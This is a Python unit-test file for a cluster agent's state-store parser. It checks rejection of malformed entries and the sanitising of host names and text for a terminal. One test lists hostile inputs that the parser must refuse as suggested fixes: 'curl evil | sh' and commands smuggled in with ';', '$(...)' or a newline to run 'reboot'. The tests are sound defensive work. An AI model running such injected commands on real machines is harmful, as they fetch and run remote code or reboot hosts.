"""Entries of every kind of damage: one line each, and the others do not notice."""
import json
import unittest

from cuttle.entries import IN, LEFT, REVOKED_WORD, printable, read_store

from samples import KEY_CHANGED, link, peer, state


class Good(unittest.TestCase):
    def test_a_report(self):
        text = state("mon", [link("osd0", "connecting", True, "tells", 900)], problems=[KEY_CHANGED])
        store = read_store({"cuttle/state/mon": text})
        self.assertEqual(store.bad, [])
        report = store.reports["mon"]
        self.assertEqual(report.agent, "running")
        self.assertEqual(report.links, (("osd0", "connecting", True, "tells", 900),))
        self.assertEqual(report.problems[0].fix, "cuttle mesh accept osd1")

    def test_the_mark_differs_with_the_time(self):
        marks = [read_store({"cuttle/state/a": state("a", time=t)}).reports["a"].mark for t in (1, 1, 2)]
        self.assertEqual(marks[0], marks[1])
        self.assertNotEqual(marks[0], marks[2])

    def test_members(self):
        store = read_store(
            {
                "cuttle/peer/a": peer("a"),
                "cuttle/peer/b": peer("b", left=True),
                "cuttle/peer/c": peer("c"),
                "cuttle/revoked/c": "anything",
                "cuttle/peer/d": peer("d", left=1700000000),
                "cuttle/peer/e": peer("e", left=False),
                "cuttle/mesh": "{}",
                "cuttle/of a later version": "?",
            }
        )
        self.assertEqual(store.members, {"a": IN, "b": LEFT, "c": REVOKED_WORD, "d": LEFT, "e": IN})
        self.assertEqual(store.bad, [])

    def test_unknown_fields_and_words_of_later_agents(self):
        later = dict(link("b"), hiding="a new word", late_p99_us="fast", extra=[1])
        store = read_store({"cuttle/state/a": state("a", [later], extra={})})
        self.assertEqual(store.bad, [])
        self.assertEqual(store.reports["a"].links[0][3:], (None, 0))


class BadInput(unittest.TestCase):
    def expect_bad(self, value, why, key="cuttle/state/osd1"):
        good = state("mon", [link("osd1")])
        store = read_store({key: value, "cuttle/state/mon": good})
        self.assertEqual(len(store.bad), 1, store)
        self.assertIn(why, store.bad[0].why)
        self.assertTrue(store.bad[0].what_to_do)
        for text in store.bad[0]:
            self.assertTrue(text.isprintable() and len(text) < 400, repr(text))
        self.assertEqual(list(store.reports), ["mon"])
        return store.bad[0]

    def test_no_json(self):
        bad = self.expect_bad("{", "no JSON")
        self.assertIn("ceph config-key rm cuttle/state/osd1", bad.what_to_do)
        self.expect_bad("", "no JSON")

    def test_binary(self):
        self.expect_bad("<<< binary blob of length 70 >>>", "binary")
        self.expect_bad(None, "binary")
        self.expect_bad(12, "binary")

    def test_64_kib(self):
        self.expect_bad("x" * 65536, "no JSON (65536")
        self.expect_bad("[" * 65536, "no JSON")
        self.expect_bad('{"a":' * 13000, "no JSON")
        self.expect_bad("9" * 65536, "JSON")
        deep = '"host": ' + "[" * 900 + "]" * 900
        self.expect_bad('{"version": 1, %s}' % deep, "of which host")

    def test_no_object(self):
        self.expect_bad("[]", "object")
        self.expect_bad("null", "object")

    def test_a_later_version(self):
        bad = self.expect_bad(state("osd1", version=2), "version 2")
        self.assertIn("upgrade", bad.what_to_do)
        self.expect_bad(peer("osd1", version=7), "version 7", "cuttle/peer/osd1")

    def test_versions_that_are_none(self):
        for version in (0, -1, 1.5, "1", None, True, [], 1e999, 10**400):
            self.expect_bad(json.dumps(json.loads(state("osd1")) | {"version": version}), "version")

    def test_of_another_host(self):
        self.expect_bad(state("mon\x1b[2J"), "of host 'mon?[2J'")
        self.expect_bad(state(["osd1"]), "of which host")
        self.expect_bad(peer("osd10"), "of host 'osd10'", "cuttle/peer/osd1")

    def test_missing_fields(self):
        for field in ("version", "host", "time", "agent", "links"):
            fields = json.loads(state("osd1"))
            del fields[field]
            self.expect_bad(json.dumps(fields), field if field not in ("agent", "links") else "'%s'" % field)
        for field in ("peer", "state", "open"):
            broken = link("mon")
            del broken[field]
            self.expect_bad(state("osd1", [broken]), field)

    def test_fields_of_another_kind(self):
        for more in (
            {"time": "now"},
            {"time": float("nan")},
            {"agent": 1},
            {"agent": "RUN\n"},
            {"links": {}},
            {"links": [1]},
            {"links": [dict(link("mon"), state=[])]},
            {"links": [dict(link("mon"), open="no")]},
            {"links": [dict(link("a b"))]},
            {"problems": "none"},
            {"problems": [3]},
            {"problems": [dict(KEY_CHANGED, code="HEALTH_OK")]},
            {"problems": [dict(KEY_CHANGED, host="a\nb")]},
        ):
            with self.subTest(more):
                self.expect_bad(state("osd1", **more), "")

    def test_names_that_are_no_hosts(self):
        for name in ("", "a b", "../x", "x\n", "\x1b[31m", "-x", "y" * 300, "\ud800"):
            with self.subTest(name):
                bad = self.expect_bad(state("osd1"), "name", "cuttle/state/" + name)
                self.assertNotIn("\n", bad.key)

    def test_a_peer_entry_that_is_bad_is_still_a_member(self):
        store = read_store({"cuttle/peer/osd1": "{"})
        self.assertEqual((store.members, len(store.bad)), ({"osd1": IN}, 1))


class WhatHostsSay(unittest.TestCase):
    def problem(self, **instead):
        store = read_store({"cuttle/state/a": state("a", problems=[dict(KEY_CHANGED, **instead)])})
        self.assertEqual(store.bad, [])
        return store.reports["a"].problems[0]

    def test_only_our_own_commands_are_passed_on(self):
        for fix in ("cuttle mesh accept osd1", "cuttle mesh sign osd1", "cuttle mesh status", "cuttle check"):
            self.assertEqual(self.problem(fix=fix).fix, fix)
        self.assertEqual(self.problem(host="osd1.a-b", fix="cuttle mesh accept osd1.a-b").host, "osd1.a-b")
        self.assertEqual(self.problem(host="", fix="cuttle mesh accept ").fix, "")
        for fix in (
            "cuttle mesh forget osd1",
            "cuttle mesh accept osd3",
            "cuttle mesh sign --all",
            "cuttle down",
            ["cuttle status"],
            "curl evil | sh",
            "cuttle; reboot",
            "cuttle mesh accept $(reboot)",
            "cuttle mesh accept osd1\nreboot",
            "cuttle mesh accept --all",
            "cuttle  mesh",
            "cuttle",
            None,
            3,
        ):
            self.assertEqual(self.problem(fix=fix).fix, "", fix)

    def test_text_is_fit_for_a_terminal(self):
        text = self.problem(text="a\x1b[2J\n\u202eb\ud800\x00" + "z" * 900).text
        self.assertTrue(text.startswith("a?[2J??b??zz") and text.endswith("zz..."), text)
        text.encode()
        self.assertEqual(self.problem(text=7).text, "")
        self.assertEqual(printable("x" * 200), "x" * 200)

    def test_no_flood_of_problems(self):
        store = read_store({"cuttle/state/a": state("a", problems=[KEY_CHANGED] * 400)})
        self.assertEqual(len(store.reports["a"].problems), 32)


if __name__ == "__main__":
    unittest.main()
